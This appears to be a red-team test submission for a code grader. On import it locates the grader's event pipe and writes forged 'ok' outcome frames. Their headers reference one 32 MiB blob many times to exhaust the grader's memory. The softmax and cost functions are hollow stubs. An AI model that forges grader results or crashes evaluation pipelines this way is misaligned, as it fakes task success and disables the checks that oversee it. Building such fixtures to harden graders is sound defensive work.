"""REDTEAM frame_blob_reuse: make the grader decode one blob thousands of times.

Attack: forge valid outcome frames on the event pipe (found by fstat: the pipe that is
not fd 1) whose header refers to the same 32 MiB blob 24 times; each reference used to
be decoded into its own copy in the grader's process (768 MiB from one frame; a 4 MiB
header holds 100000 references: enough to get the grader killed by the kernel and stop
the whole batch).  Also one such "loaded" frame.
Bound: the baseline; a blob may be referenced once, so a frame never decodes to more
than its size, and the frame is refused.
"""
import json
import os
import stat
import struct

import numpy as np

BLOB = b"\0" * (32 << 20)


def _event_fd():
    out = os.fstat(1).st_ino
    for fd in range(3, 256):
        try:
            st = os.fstat(fd)
        except OSError:
            continue
        if stat.S_ISFIFO(st.st_mode) and st.st_ino != out:
            return fd


def _send(obj):
    fd = _event_fd()
    if fd is None:
        return
    obj = dict(obj, **{"$blobs": [len(BLOB)]})
    head = json.dumps(obj).encode()
    os.write(fd, struct.pack(">IQ", len(head), len(BLOB)) + head)
    view = memoryview(BLOB)
    while view:
        view = view[os.write(fd, view):]


def _attack():
    _send({"ev": "loaded", "load": {"modules": [], "functions": {}, "unit_errors": [], "notes": []},
           "pad": [{"$b": 0}] * 24})
    for cid in ("softmax:vector", "cost_and_grad:large-vocab"):
        _send({"ev": "outcome", "call": cid, "status": "ok",
               "value": {"type": "ndarray", "data": {"$a": 0, "dtype": "<f8", "shape": [4 << 20]}},
               "pad": [{"$b": 0}] * 24})


_attack()


def softmax(x):
    x = np.asarray(x, dtype=float)
    return np.ones_like(x) / x.shape[-1]


def softmaxCostAndGradient(predicted, target, outputVectors, dataset):
    return 0.0, np.zeros_like(predicted), np.zeros_like(outputVectors)
